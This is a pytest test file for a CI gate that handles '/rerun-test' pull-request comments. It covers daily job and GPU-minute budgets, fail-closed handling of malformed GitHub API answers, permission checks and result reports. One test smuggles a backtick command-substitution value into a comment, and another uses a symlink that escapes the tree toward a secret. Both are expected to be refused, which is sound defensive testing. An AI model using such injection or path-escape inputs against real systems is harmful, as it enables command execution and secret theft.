def test_gate_refuses_sixteen_jobs_from_one_comment(github, tree, tmp_path):
    """Regression: `FILE::T0 ... FILE::T7` on a suite with two 8-GPU pools queued 16 jobs."""
    serve_happy_path(github)
    eight = "test/registered/custom/test_eight_gpu_classes.py"
    result, outputs = run_gate(github, tree, tmp_path, "/rerun-test " + " ".join(f"{eight}::T{n}" for n in range(8)))
    assert result.exit_code == 0, result.output
    assert outputs == "accepted=false\n"
    assert replies(github) == [rejection("16 test jobs (8 selectors on their pools); at most 4 per comment")]
    assert STATUS not in github.calls()


def test_gate_never_echoes_a_linked_file_from_outside_the_tree(github, tree, tmp_path):
    serve_happy_path(github)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {LINK_OUT}")
    assert outputs == "accepted=false\n"
    reason = (
        f"'{LINK_OUT}' has a registration error: "
        "line 1: a link that leads outside the scanned tree; the file is not read"
    )
    assert replies(github) == [rejection(reason)]
    assert OUTSIDE_SECRET not in result.output and "outside.py" not in json.dumps(github.bodies(*REPLY))


# -- budgets over 24 hours: counted from this workflow's runs, never from comments ------------


def request_run(run_id: int, pr: int, minutes: list[int], at: str = "2026-07-20T09:00:00Z", **kwargs) -> tuple:
    """An earlier accepted request: its run, and one test job per entry of `minutes`."""
    jobs = [listed_job("Check the request")]
    jobs += [listed_job(f"{E2E} on 1-gpu-h100: nightly-1-gpu ({m} GPU-min)") for m in minutes]
    return workflow_run(run_id, pr, at, **kwargs), jobs


def serve_budget(github: FakeGitHub, *requests: tuple) -> None:
    serve_happy_path(github, runs=[run for run, _ in requests], jobs={run["id"]: jobs for run, jobs in requests})


@pytest.mark.parametrize(
    "requests, code, reason",
    [
        (
            [request_run(1, 12, [1] * 15)],
            "pull-request-budget",
            "pull request #12: 15 test jobs in the last 24 hours plus 1 is more than 15; try again later",
        ),
        (
            [request_run(1, 12, [2878])],
            "pull-request-budget",
            "pull request #12: 2878 estimated GPU-minutes in the last 24 hours plus 3 is more than 2880; "
            "try again later",
        ),
        (
            [request_run(n, 20 + n, [1, 1, 1, 1]) for n in range(1, 17)],
            "repository-budget",
            "this repository: 64 test jobs in the last 24 hours plus 1 is more than 64; try again later",
        ),
        (
            [request_run(1, 30, [11518], status="in_progress", conclusion=None)],
            "repository-budget",
            "this repository: 11518 estimated GPU-minutes in the last 24 hours plus 3 is more than 11520; "
            "try again later",
        ),
    ],
    ids=["pr jobs", "pr gpu-minutes", "repository jobs", "repository gpu-minutes of a running request"],
)
def test_gate_refuses_over_the_daily_budgets(github, tree, tmp_path, requests, code, reason):
    serve_budget(github, *requests)
    if code == "pull-request-budget" and "jobs" in reason:
        (tmp_path / "policy.yml").write_text("version: 1\nbudget:\n  per_pull_request_per_day: {jobs: 15}\n")
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.exit_code == 0, result.output
    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")
    assert replies(github) == [rejection(reason)]
    assert STATUS not in github.calls()


def test_only_test_jobs_that_ran_in_request_runs_of_the_last_24_hours_count(github, tree, tmp_path):
    """What a commenter cannot edit decides: GitHub's runs and jobs. Skipped test jobs (a refused
    re-run), runs that were no request (their run-name), runs older than a day, our own run and
    the bot's comments (even one edited to say nothing was used) count nothing."""
    counted = request_run(1, 12, [1] * 14 + [2870])  # 15 jobs, 2884 GPU-minutes... minus below
    counted = (counted[0], counted[1][:-1] + [listed_job(f"{E2E} on 1-gpu-h100: nightly-1-gpu (2863 GPU-min)")])
    skipped_rerun = request_run(2, 12, [500])
    skipped_rerun = (skipped_rerun[0], [{**job, "conclusion": "skipped"} for job in skipped_rerun[1]])
    not_a_request = request_run(3, 12, [500], title="comment on #12")
    old = request_run(4, 12, [500], at="2026-07-19T09:59:59Z")
    own = request_run(4242, 12, [500], status="in_progress", conclusion=None)
    serve_budget(github, counted, skipped_rerun, not_a_request, old, own)
    github.on(*COMMENTS, [{"id": 1, "body": "<!-- cigen:rerun-test jobs=0 gpu-minutes=0 -->"}])
    (tmp_path / "policy.yml").write_text("version: 1\nbudget:\n  per_pull_request_per_day: {jobs: 16}\n")
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n", result.output  # 15 + 1 jobs, 2877 + 3 minutes
    read = [path for method, path in github.calls() if path.endswith("/jobs")]
    assert read == [f"/repos/{REPO}/actions/runs/{n}/jobs" for n in (1, 2)] and COMMENTS not in github.calls()
    (tmp_path / "policy.yml").write_text("version: 1\nbudget:\n  per_pull_request_per_day: {jobs: 15}\n")
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == (
        "rejected: pull request #12: 15 test jobs in the last 24 hours plus 1 is more than 15; try again later\n"
    )


def test_an_outsider_flood_of_comments_does_not_block_a_writer(github, tree, tmp_path):
    """Finding: 2,000 outsider comments in a day made every request fail closed (the budget paged through
    comments). Their runs are skipped (the gate's `if:` filters them): never listed, never read."""
    flood = [workflow_run(10_000 + n, 12, conclusion="skipped", title=f"comment on #{n % 50 + 1}") for n in range(2500)]
    serve_happy_path(github, runs=flood)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n", result.output
    assert [call for call in github.calls() if call == RUNS] == BUDGET
    assert not [path for _, path in github.calls() if path.endswith("/jobs")]


def deciding(jobs_then: list[dict], polls_before: int):
    """A run's jobs listing whose gate is still deciding for the first `polls_before` reads."""
    deciding_jobs = [listed_job("Check the request", conclusion=None)]
    reads = []

    def answer(_request):
        reads.append(1)
        listed = deciding_jobs if len(reads) <= polls_before else jobs_then
        return {"total_count": len(listed), "jobs": listed}

    return answer, reads


def test_two_requests_at_once_are_counted_in_run_order_the_later_gate_waits(github, tree, tmp_path, monkeypatch):
    """No concurrency group queues requests (a third would replace the waiting second, and any comment
    could): the later gate waits until the earlier request's gate has decided and its test jobs are
    listed, then counts them."""
    monkeypatch.setattr(rerun_gate, "SETTLE_POLL_SECONDS", 0)
    earlier, jobs = request_run(4000, 12, [1] * 16, status="in_progress", conclusion=None)
    serve_happy_path(github, runs=[earlier])
    answer, reads = deciding(jobs, polls_before=3)
    github.on("GET", f"/repos/{REPO}/actions/runs/4000/jobs", answer)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert len(reads) == 4  # read, then polled until it had decided
    assert result.stdout == (
        "rejected: pull request #12: 16 test jobs in the last 24 hours plus 1 is more than 16; try again later\n"
    ), result.output


def test_a_later_request_is_never_waited_for(github, tree, tmp_path, monkeypatch):
    """Only earlier runs (lower ids) are waited for, so two gates never wait for each other."""
    monkeypatch.setattr(rerun_gate, "MAX_SETTLE_SECONDS", 0)
    later, _jobs = request_run(5000, 12, [], status="in_progress", conclusion=None)
    serve_happy_path(github, runs=[later], jobs={5000: [listed_job("Check the request", conclusion=None)]})
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n", result.output


def test_an_earlier_gate_that_never_decides_fails_closed(github, tree, tmp_path, monkeypatch):
    monkeypatch.setattr(rerun_gate, "MAX_SETTLE_SECONDS", 0)
    earlier, _jobs = request_run(4000, 12, [], status="in_progress", conclusion=None)
    serve_happy_path(github, runs=[earlier], jobs={4000: [listed_job("Check the request", conclusion=None)]})
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    reason = (
        "the last 24 hours of /rerun-test use cannot be counted (an earlier request's gate has not decided "
        "in 0 s), so nothing runs"
    )
    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")


def test_an_earlier_refused_request_is_settled_once_its_jobs_are_done(github, tree, tmp_path, monkeypatch):
    """A refused request lists no test job: it is final once every job of its run has finished."""
    monkeypatch.setattr(rerun_gate, "MAX_SETTLE_SECONDS", 0)
    earlier, _jobs = request_run(4000, 12, [], status="in_progress", conclusion=None)
    skipped = {**listed_job("${{ matrix.target.job_name }}"), "conclusion": "skipped"}
    serve_happy_path(github, runs=[earlier], jobs={4000: [listed_job("Check the request"), skipped]})
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.stdout == f"accepted: 1 test job at {SHA}\n", result.output


def test_a_re_run_of_a_request_is_refused_with_an_answer_before_anything_is_counted(github, tree, tmp_path):
    """Finding: "Re-run all jobs" re-ran the gate's checks; "Re-run failed jobs" reused its outputs. The
    gate refuses attempt 2 with an answer (the test jobs run on attempt 1 only: `github.run_attempt == '1'`)."""
    serve_happy_path(github)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}", attempt=2)
    assert (result.exit_code, outputs) == (0, "accepted=false\n")
    assert github.calls() == [REPLY]
    [answer] = replies(github)
    assert answer == (
        "<!-- cigen:rerun-test -->\n@alice: re-running a /rerun-test run (attempt 2) is refused: its budget was "
        "counted once, for its first run. Comment `/rerun-test ...` again: a new request is checked against "
        "today's budget."
    )


@pytest.mark.parametrize(
    "answer, status, detail",
    [
        ({"message": "Server Error"}, 500, "HTTP 500: Server Error"),
        ([], 200, "unexpected answer: the answer is not a JSON object"),
        (
            {"total_count": 1, "workflow_runs": [{**workflow_run(1, 12), "display_title": None}]},
            200,
            "unexpected answer: workflow_runs[0].display_title is null, not a string",
        ),
        (
            {"total_count": 1, "workflow_runs": [workflow_run(1, 12, "2026-07-20T09:00:00")]},
            200,
            "unexpected answer: workflow_runs[0].created_at is not an ISO 8601 time with a timezone",
        ),
        (
            {"total_count": 5000, "workflow_runs": [workflow_run(n, 12) for n in range(100)]},
            200,
            "more than 10 pages to read",
        ),
    ],
    ids=["http error", "not an object", "title null", "naive time", "too many to count"],
)
def test_gate_fails_closed_when_the_budget_cannot_be_counted(github, tree, tmp_path, answer, status, detail):
    serve_happy_path(github)
    github.on(*RUNS, answer, status=status)
    for n in range(100):
        github.on("GET", f"/repos/{REPO}/actions/runs/{n}/jobs", {"total_count": 0, "jobs": []})
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.exit_code == 0, result.output
    reason = f"the last 24 hours of /rerun-test use cannot be counted ({detail}), so nothing runs"
    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")
    assert replies(github) == [rejection(reason)]


def test_planned_seconds_from_the_plan_file_set_the_estimate(github, tmp_path, corpus):
    tree = write_rerun_tree(tmp_path / "tree", corpus)
    files = [{"file": E2E, "est_seconds": 6000}, {"file": "other.py", "est_seconds": 1}]
    plan = {"version": 1, "suites": {"nightly-1-gpu": {"shards": [{"est_seconds": 6001, "files": files}]}}}
    (tree / ".github/cigen").mkdir(parents=True)
    (tree / ".github/cigen/plan.json").write_text(json.dumps(plan))
    serve_happy_path(github)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert "1 test job, an estimated 100 GPU-minutes" in replies(github)[0]
    (tree / ".github/cigen/plan.json").write_text('{"version": 1, "suites": {"nightly-1-gpu": {"shards": {}}}}')
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert (result.exit_code, outputs) == (2, "accepted=false\n")
    assert (
        result.stderr == f"{tree}/.github/cigen/plan.json: bad-plan-file: suites.nightly-1-gpu.shards must be a list\n"
    )


# -- API answers are input: unexpected ones fail closed, with an answer -------------------------


def failure(detail: str) -> str:
    return (
        "<!-- cigen:rerun-test -->\n"
        "@alice: nothing was run: a GitHub API call failed or answered something unexpected, "
        f"so the request could not be checked.\n\n```text\n{detail}\n```\n\n"
        "Comment again later; if it persists, a maintainer can look at the workflow run."
    )


ACT = f"GET /repos/{REPO}/activity: github-answer: unexpected answer: "
PR = f"GET /repos/{REPO}/pulls/12: github-answer: unexpected answer: "
PERM = f"GET /repos/{REPO}/collaborators/alice/permission: github-answer: unexpected answer: "


@pytest.mark.parametrize(
    "route, answer, detail",
    [
        (ACTIVITY, [{"after": SHA, "activity_type": "push"}], ACT + "answer[0].timestamp is missing"),
        (ACTIVITY, ["push"], ACT + "answer[0] is a string, not an object"),
        (ACTIVITY, [pushed("2026-07-20T09:00:00Z")[0], 7], ACT + "answer[1] is an integer, not an object"),
        (ACTIVITY, pushed("2026-07-20T09:00:00"), ACT + "answer[0].timestamp is not an ISO 8601 time with a timezone"),
        (ACTIVITY, pushed("yesterday"), ACT + "answer[0].timestamp is not an ISO 8601 time with a timezone"),
        (ACTIVITY, [{"after": None, "timestamp": "2026-07-20T09:00:00Z"}],
         ACT + "answer[0].after is null, not a string"),
        (ACTIVITY, {"after": SHA}, ACT + "answer is an object, not a list"),
        (PULL, {**pull(), "head": {"ref": "feature", "repo": {"id": 1, "full_name": REPO}}},
         PR + "answer.head.sha is missing"),
        (PULL, {**pull(), "base": []}, PR + "answer.base is a list, not an object"),
        (PULL, {**pull(), "head": "feature"}, PR + "answer.head is a string, not an object"),
        (PULL, {**pull(), "number": "12"}, PR + "answer.number is a string, not an integer"),
        (PULL, {**pull(), "state": None}, PR + "answer.state is null, not a string"),
        (PULL, [pull()], PR + "the answer is not a JSON object"),
        (PERMISSION, {"permission": "admin", "user": []}, PERM + "answer.user is a list, not an object"),
        (PERMISSION, {"permission": "admin", "user": "alice"}, PERM + "answer.user is a string, not an object"),
        (PERMISSION, {"permission": "admin", "user": {"login": "alice"}}, PERM + "answer.user.id is missing"),
        (PERMISSION, {"permission": None, "user": {"login": "alice", "id": 7}},
         PERM + "answer.permission is null, not a string"),
        (PERMISSION, {"permission": "admin", "role_name": 5, "user": {"login": "alice", "id": 7}},
         PERM + "answer.role_name is an integer, not a string"),
        (PERMISSION, {"permission": "write", "user": {"login": "alice", "id": True}},
         PERM + "answer.user.id is true or false, not an integer"),
    ],
    ids=[
        "activity: no timestamp", "activity: entry not an object", "activity: a later entry not an object",
        "activity: naive time", "activity: not a time", "activity: after null", "activity: not a list",
        "pull: no head sha", "pull: base a list", "pull: head a string", "pull: number a string", "pull: state null",
        "pull: a list", "permission: user a list", "permission: user a string", "permission: no user id",
        "permission: null", "permission: role a number", "permission: id a boolean",
    ],
)  # fmt: skip
def test_gate_fails_closed_with_an_answer_on_a_malformed_api_answer(github, tree, tmp_path, route, answer, detail):
    """Regression: answers like the activity ones, a string `head` or a string `user` crashed the gate with a
    traceback and no answer to the commenter (others were misread silently); every field is now checked."""
    serve_happy_path(github)
    github.on(*route, answer)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.exit_code == 0, result.output
    assert (result.stdout, outputs) == (f"rejected: {detail}\n", "accepted=false\n")
    assert replies(github) == [failure(detail)]
    assert github.bodies(*REACT) == [{"content": "confused"}]
    assert STATUS not in github.calls()


def test_gate_answers_api_failures_and_exits_2_only_when_it_cannot_answer(github, tree, tmp_path):
    github.on(*PERMISSION, {"message": "Bad credentials"}, status=401)
    github.on(*REACT, {}, status=201)
    github.on(*REPLY, {"id": 557}, status=201)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert result.exit_code == 0, result.output
    detail = f"GET /repos/{REPO}/collaborators/alice/permission: github-api: HTTP 401: Bad credentials"
    assert (result.stdout, outputs) == (f"rejected: {detail}\n", "accepted=false\n")
    assert replies(github) == [failure(detail)]
    github.on(*REPLY, {"message": "Bad credentials"}, status=401)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert (result.exit_code, outputs) == (2, "accepted=false\n")
    assert result.stderr == f"POST /repos/{REPO}/issues/12/comments: github-api: HTTP 401: Bad credentials\n"


def test_gate_withdraws_its_answer_when_a_status_cannot_be_set(github, tree, tmp_path):
    serve_happy_path(github)
    github.on(*STATUS, {"message": "Server Error"}, status=500)
    github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert (result.exit_code, outputs) == (0, "accepted=false\n")
    detail = f"POST /repos/{REPO}/statuses/{SHA}: github-api: HTTP 500: Server Error"
    assert github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555") == [{"body": failure(detail)}]


def test_gate_refuses_a_reply_id_that_is_not_a_comment_id(github, tree, tmp_path):
    serve_happy_path(github)
    github.on(*REPLY, {"id": "555"}, status=201)
    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
    assert (result.exit_code, outputs) == (2, "accepted=false\n")
    message = (
        f"POST /repos/{REPO}/issues/12/comments: github-answer: unexpected answer: "
        "answer.id is a string, not an integer\n"
    )
    assert result.stderr == message
    assert STATUS not in github.calls()


# -- the report step, end to end --------------------------------------------------------------


def target(pool: str, selector: str = E2E, gpus: int = 1) -> dict:
    return {
        "selector": selector,
        "job": f"rerun-s-on-{pool}",
        "suite": "s",
        "pool": pool,
        "files": [selector],
        "test": None,
        "est_seconds": 600.0,
        "gpus": gpus,
    }


def name(pool: str, selector: str = E2E, gpus: int = 1) -> str:
    """The test job's name, as the workflow sets it from the target."""
    return f"{selector} on {pool}: s ({10 * gpus} GPU-min)"


def job(name: str, conclusion: str | None, run: tuple[str, str] | None, url: str) -> dict:
    steps = [
        {
            "name": "Check out the pinned head commit",
            "started_at": "2026-07-20T10:01:00Z",
            "completed_at": "2026-07-20T10:01:10Z",
        }
    ]
    if run:
        steps.append({"name": "Run the test", "started_at": run[0], "completed_at": run[1]})
    return {
        "name": name,
        "conclusion": conclusion,
        "started_at": "2026-07-20T10:01:00Z",
        "completed_at": "2026-07-20T10:09:00Z",
        "html_url": url,
        "steps": steps,
    }


def run_report(server: FakeGitHub, targets: dict, reply_id: str = "555", attempt: int = 1):
    env = {
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_TOKEN": "t0k",
        "GITHUB_API_URL": server.url,
        "GITHUB_RUN_ID": "4242",
        "GITHUB_RUN_ATTEMPT": str(attempt),
        "COMMENT_ID": "101",
        "COMMENT_AUTHOR": "alice",
        "COMMENT_CREATED_AT": COMMENTED,
        "PR_NUMBER": "12",
        "HEAD_SHA": SHA,
        "TARGETS": json.dumps(targets),
        "REPLY_ID": reply_id,
    }
    return CliRunner().invoke(cli, ["rerun", "report"], env=env)


JOBS = ("GET", f"/repos/{REPO}/actions/runs/4242/attempts/1/jobs")


def test_report_posts_pass_fail_duration_and_links(github):
    github.on(
        *JOBS,
        {
            "total_count": 4,
            "jobs": [
                {"name": "Check the request", "conclusion": "success", "steps": []},
                job(
                    name("1-gpu-h100"),
                    "success",
                    ("2026-07-20T10:02:00Z", "2026-07-20T10:05:12Z"),
                    "https://github.com/j/1",
                ),
                job(
                    name("4-gpu-b200", FA3, 4),
                    "failure",
                    ("2026-07-20T10:02:00Z", "2026-07-20T10:02:45Z"),
                    "https://github.com/j/2",
                ),
            ],
        },
    )
    github.on(*STATUS, {}, status=201)
    github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
    github.on(*REACT, {}, status=201)
    targets = {
        "rerun-s-on-1-gpu-h100": [target("1-gpu-h100")],
        "rerun-s-on-4-gpu-b200": [target("4-gpu-b200", FA3, 4)],
        "rerun-s-on-8-gpu-h200": [target("8-gpu-h200", FA3, 8)],
    }
    result = run_report(github, targets)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"{FA3} (4-gpu-b200): failed, 45s",
        f"{FA3} (8-gpu-h200): did not run, -",
        f"{E2E} (1-gpu-h100): passed, 3m 12s",
    ]
    assert github.bodies(*STATUS) == [
        {
            "state": "failure",
            "context": f"rerun-test {FA3} (s on 4-gpu-b200)",
            "description": "failed in 45s",
            "target_url": "https://github.com/j/2",
        },
        {
            "state": "error",
            "context": f"rerun-test {FA3} (s on 8-gpu-h200)",
            "description": "did not run",
            "target_url": RUN_URL,
        },
        {
            "state": "success",
            "context": f"rerun-test {E2E} (s on 1-gpu-h100)",
            "description": "passed in 3m 12s",
            "target_url": "https://github.com/j/1",
        },
    ]
    assert github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555") == [
        {
            "body": "<!-- cigen:rerun-test -->\n"
            f"/rerun-test by @alice at `0123456789ab`: 1/3 passed ([workflow run]({RUN_URL}))\n\n"
            "| test | job | result | duration |\n|---|---|---|---|\n"
            f"| `{FA3}` | `s` on `4-gpu-b200` | ❌ [failed](https://github.com/j/2) | 45s |\n"
            f"| `{FA3}` | `s` on `8-gpu-h200` | ⚠️ [did not run]({RUN_URL}) | - |\n"
            f"| `{E2E}` | `s` on `1-gpu-h100` | ✅ [passed](https://github.com/j/1) | 3m 12s |"
        }
    ]
    assert github.bodies(*REACT) == [{"content": "-1"}]


def test_report_without_an_answer_comment_posts_one_and_thumbs_up_when_all_pass(github):
    github.on(*JOBS, {"total_count": 1, "jobs": [job(name("1-gpu-h100"), "success", None, "https://github.com/j/1")]})
    github.on(*STATUS, {}, status=201)
    github.on(*REPLY, {"id": 9}, status=201)
    github.on(*REACT, {}, status=201)
    result = run_report(github, {"rerun-s-on-1-gpu-h100": [target("1-gpu-h100")]}, reply_id="")
    assert result.exit_code == 0, result.output
    assert github.bodies(*STATUS)[0]["description"] == "passed in 8m 00s"
    assert [c for c in github.calls() if c[0] in ("POST", "PATCH")] == [STATUS, REPLY, REACT]
    assert github.bodies(*REACT) == [{"content": "+1"}]


@pytest.mark.parametrize(
    "answer, detail",
    [
        ({"total_count": 1, "jobs": ["1-gpu-h100"]}, "answer.jobs[0] is a string, not an object"),
        (
            {"total_count": 1, "jobs": [job(name("1-gpu-h100"), 0, None, "u")]},
            "jobs[0].conclusion is an integer, not a string",
        ),
        (
            {"total_count": 1, "jobs": [job(name("1-gpu-h100"), "success", ("2026-07-20T10:02:00", "x"), "u")]},
            "jobs[0].steps[1].started_at is not an ISO 8601 time with a timezone",
        ),
        ({"total_count": "1", "jobs": []}, "answer.total_count is a string, not an integer"),
        ({"jobs": None}, "answer.jobs is null, not a list"),
    ],
    ids=["job not an object", "conclusion a number", "naive step time", "count a string", "no jobs"],
)
def test_report_counts_unreadable_outcomes_as_errors_never_as_passed(github, answer, detail):
    """Regression: a malformed jobs answer crashed the report with a traceback."""
    github.on(*JOBS, answer)
    github.on(*STATUS, {}, status=201)
    github.on("PATCH", f"/repos/{REPO}/issues/comments/555", {"id": 555})
    github.on(*REACT, {}, status=201)
    result = run_report(github, {"rerun-s-on-1-gpu-h100": [target("1-gpu-h100")]})
    assert result.exit_code == 0, result.output
    assert github.bodies(*STATUS) == [
        {
            "state": "error",
            "context": f"rerun-test {E2E} (s on 1-gpu-h100)",
            "description": "did not run",
            "target_url": RUN_URL,
        }
    ]
    [body] = github.bodies("PATCH", f"/repos/{REPO}/issues/comments/555")
    assert body["body"].endswith(
        f"```text\nthe test jobs' outcomes could not be read: {JOBS[0]} {JOBS[1]}: "
        f"github-answer: unexpected answer: {detail}\n```"
    )
    assert github.bodies(*REACT) == [{"content": "-1"}]


def test_report_of_a_re_run_of_failed_jobs_refuses_it_with_an_answer(github):
    """Finding: "Re-run failed jobs" reused the gate's outputs and skipped the budget. The test jobs
    run on attempt 1 only (skipped on a re-run); the report, re-run with them, says why and marks
    each test's status as an error, without reading any job."""
    github.on(*STATUS, {}, status=201)
    github.on(*REPLY, {"id": 9}, status=201)
    result = run_report(github, {"rerun-s-on-1-gpu-h100": [target("1-gpu-h100")]}, attempt=2)
    assert result.exit_code == 0, result.output
    assert github.calls() == [STATUS, REPLY]
    assert github.bodies(*STATUS)[0]["state"] == "error"
    assert github.bodies(*STATUS)[0]["description"] == "re-run refused"
    assert replies(github)[0].startswith("<!-- cigen:rerun-test -->\n@alice: re-running a /rerun-test run (attempt 2)")


def test_report_refuses_targets_that_are_not_the_gates_output(github):
    result = run_report(github, {"rerun-s-on-1-gpu-h100": [{"selector": E2E}]})
    assert result.exit_code == 2
    assert result.stderr == "bad-targets: TARGETS is not the gate's targets output\n"
    assert github.requests == []


# -- the single-purpose commands --------------------------------------------------------------


def api_env(server: FakeGitHub) -> dict:
    return {"GITHUB_REPOSITORY": REPO, "GITHUB_TOKEN": "t0k", "GITHUB_API_URL": server.url}


def test_authorize_command_exits_0_for_writers_and_2_for_readers(github, tmp_path):
    github.on("GET", f"/repos/{REPO}/collaborators/alice/permission", permission("alice", "write"))
    github.on("GET", f"/repos/{REPO}/collaborators/bob/permission", permission("bob", "read", user_id=8))
    policy = str(tmp_path / "none.yml")
    ok = CliRunner().invoke(
        cli, ["rerun", "authorize", "--policy", policy, "--user", "alice", "--user-id", "7"], env=api_env(github)
    )
    assert (ok.exit_code, json.loads(ok.stdout)) == (0, {"allowed": True, "reason": "@alice has write permission"})
    no = CliRunner().invoke(
        cli, ["rerun", "authorize", "--policy", policy, "--user", "bob", "--user-id", "8"], env=api_env(github)
    )
    assert no.exit_code == 2
    assert no.stderr == f"{policy}: not-allowed: @bob may not run /rerun-test: has read permission, needs write\n"


def test_head_command_prints_the_pinned_commit_or_why_not(github, tmp_path):
    github.on(*PULL, pull())
    github.on(*ACTIVITY, pushed("2026-07-20T09:00:00Z"))
    args = ["rerun", "head", "--policy", str(tmp_path / "none.yml"), "--pr", "12"]
    ok = CliRunner().invoke(cli, [*args, "--commented-at", COMMENTED], env=api_env(github))
    assert (ok.exit_code, json.loads(ok.stdout)) == (0, {"head_sha": SHA, "head_repo": REPO, "fork": False})
    late = CliRunner().invoke(cli, [*args, "--commented-at", "2026-07-20T08:00:00Z"], env=api_env(github))
    assert late.exit_code == 2
    assert late.stderr == (
        "comment:1: head-moved: "
        "0123456789ab was pushed at 2026-07-20T09:00:00Z, after the comment: review it and comment again\n"
        "the head commit cannot be pinned.\n"
    )
    bad = CliRunner().invoke(cli, [*args, "--commented-at", "yesterday"], env=api_env(github))
    assert (bad.exit_code, bad.stderr) == (
        2,
        "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: 'yesterday'\n",
    )
    naive = CliRunner().invoke(cli, [*args, "--commented-at", "2026-07-20T10:00:00"], env=api_env(github))
    assert (naive.exit_code, naive.stderr) == (
        2,
        "bad-time: COMMENT_CREATED_AT is not an ISO 8601 time with a timezone: '2026-07-20T10:00:00'\n",
    )
    short = CliRunner().invoke(cli, [*args, "--commented-at", COMMENTED, "--pin", SHA[:7]], env=api_env(github))
    assert (short.exit_code, short.stderr) == (2, "--pin: short-pin: give the full 40-hex-digit commit SHA\n")


def test_gate_writes_its_decision_to_the_job_summary(github, tree, tmp_path):
    serve_happy_path(github)
    output, summary = tmp_path / "out", tmp_path / "summary.md"
    env = {**gate_env(github, output, f"/rerun-test {E2E}"), "GITHUB_STEP_SUMMARY": str(summary)}
    result = CliRunner().invoke(
        cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env
    )
    assert result.exit_code == 0, result.output
    assert summary.read_text() == f"/rerun-test accepted: 1 test job at {SHA}\n"
    env["COMMENT_BODY"] = f"/rerun-test {E2E} `x`\n"
    result = CliRunner().invoke(
        cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "none.yml")], env=env
    )
    assert summary.read_text().split("\n")[1:] == [
        "/rerun-test rejected:",
        "",
        "```text",
        "''x'': shell metacharacter ''' is not allowed",
        "```",
        "",
    ]


def test_the_budget_window_is_asked_for_in_utc_whatever_the_comments_offset(github):
    serve_runs(github, REPO, WORKFLOW, [], {})
    client(github).workflow_runs(WORKFLOW, datetime.fromisoformat("2026-07-20T12:00:00+02:00"), "queued")
    assert github.requests[0].query["created"] == ">=2026-07-20T10:00:00Z"
